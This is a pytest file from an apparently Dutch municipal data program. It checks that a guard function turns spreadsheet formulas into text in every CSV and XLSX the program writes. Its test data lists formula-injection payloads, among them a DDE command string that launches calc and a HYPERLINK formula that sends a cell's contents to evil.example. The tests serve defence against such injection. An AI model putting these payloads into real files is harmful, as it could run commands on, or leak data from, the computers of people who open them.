"""What somebody delivered never runs as a formula in what we write: one guard, and every writer uses it."""

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest
from python_calamine import CalamineWorkbook
from tests.support.messages import PROVISION, csv_of

from graadmeter.catalogue.code_lists import code_lists
from graadmeter.catalogue.layouts import layouts
from graadmeter.catalogue.load_checks import checks
from graadmeter.check.context import CheckContext
from graadmeter.check.examples import GEMEENTE, PRODUCTS, QUARTER
from graadmeter.check.report_xlsx import build
from graadmeter.check.run import run_checks
from graadmeter.deliver.reader import read_files
from graadmeter.domain.deliveries import Manifest
from graadmeter.domain.formulas import guarded
from graadmeter.domain.text import Lang
from graadmeter.engine.duckdb import DuckDBEngine
from graadmeter.release.formats import csv_bytes

SOURCE = Path(__file__).parents[2] / "src/graadmeter"
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "\uff1d1+1",
    "--1",
    "-",
]
READ_BACK = {
    "store/csv_tables.py": "the region's own lists, which the program reads back byte for byte",
}
"""Writers that may do without the guard, and why."""


@pytest.mark.parametrize("attack", ATTACKS[:-1])
def test_a_formula_becomes_text(attack) -> None:
    assert guarded(attack) == f"'{attack}"


@pytest.mark.parametrize("plain", ["-", "-5", "+5", "-12,5", "12", "WK014110", "a=b", "", "De Riet", "'s-Gravenhage"])
def test_numbers_and_words_stay_as_they_are(plain) -> None:
    assert guarded(plain) == plain


def test_published_tables_carry_no_formula() -> None:
    content = csv_bytes(pa.table({"name": ATTACKS, "value": [-1.5] * len(ATTACKS)}))
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert [row["value"] for row in rows] == ["-1.5"] * len(ATTACKS), "numbers stay numbers"
    for row in rows:
        assert not re.match(r"[=+@\t\r\n\uff1d]|-.", row["name"])


def test_the_report_carries_no_formula_in_any_cell(tmp_path) -> None:
    rows = [
        PROVISION | dict.fromkeys(("voorziening_id", "wijk", "hulpvorm", "begindatum"), attack) for attack in ATTACKS
    ]
    name = "=HYPERLINK(A1).csv"
    (tmp_path / name).write_text(csv_of("voorziening", rows))
    raw = read_files([tmp_path / name])
    assert raw.tables["voorziening"].num_rows > 0
    context = CheckContext(
        gemeente=GEMEENTE, quarter=QUARTER, products=PRODUCTS, code_lists=code_lists(), wijken=frozenset(), earlier={},
        fictitious=False, read_findings=raw.findings,
    )  # fmt: skip
    with DuckDBEngine() as engine:
        result = run_checks(engine, raw.tables, layouts(), checks(), context)
    assert result.findings
    content = build(result, Manifest("-", "GM0141", "2025KW04", "2026-01-01T00:00:00+00:00", (), "r", "s"), Lang.NL)
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    cells = [cell for sheet in book.sheet_names for row in book.get_sheet_by_name(sheet).to_python() for cell in row]
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert any("=HYPERLINK(A1).csv" in text for text in texts), "the file is named"
    for text in texts:
        assert guarded(text) == text, text


def test_every_writer_of_tables_uses_the_guard() -> None:
    """A new writer of CSV or XLSX either guards its texts or says here why it need not."""
    writes = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|write_csv\(|def csv_bytes")
    found = set()
    for path in SOURCE.rglob("*.py"):
        text, name = path.read_text(encoding="utf-8"), path.relative_to(SOURCE).as_posix()
        if writes.search(text) and not name.startswith("synth/"):
            found.add(name)
            assert "guarded" in text or name in READ_BACK, f"{name} writes tables without domain.formulas.guarded"
    assert {"check/report_xlsx.py", "release/formats.py", *READ_BACK} <= found
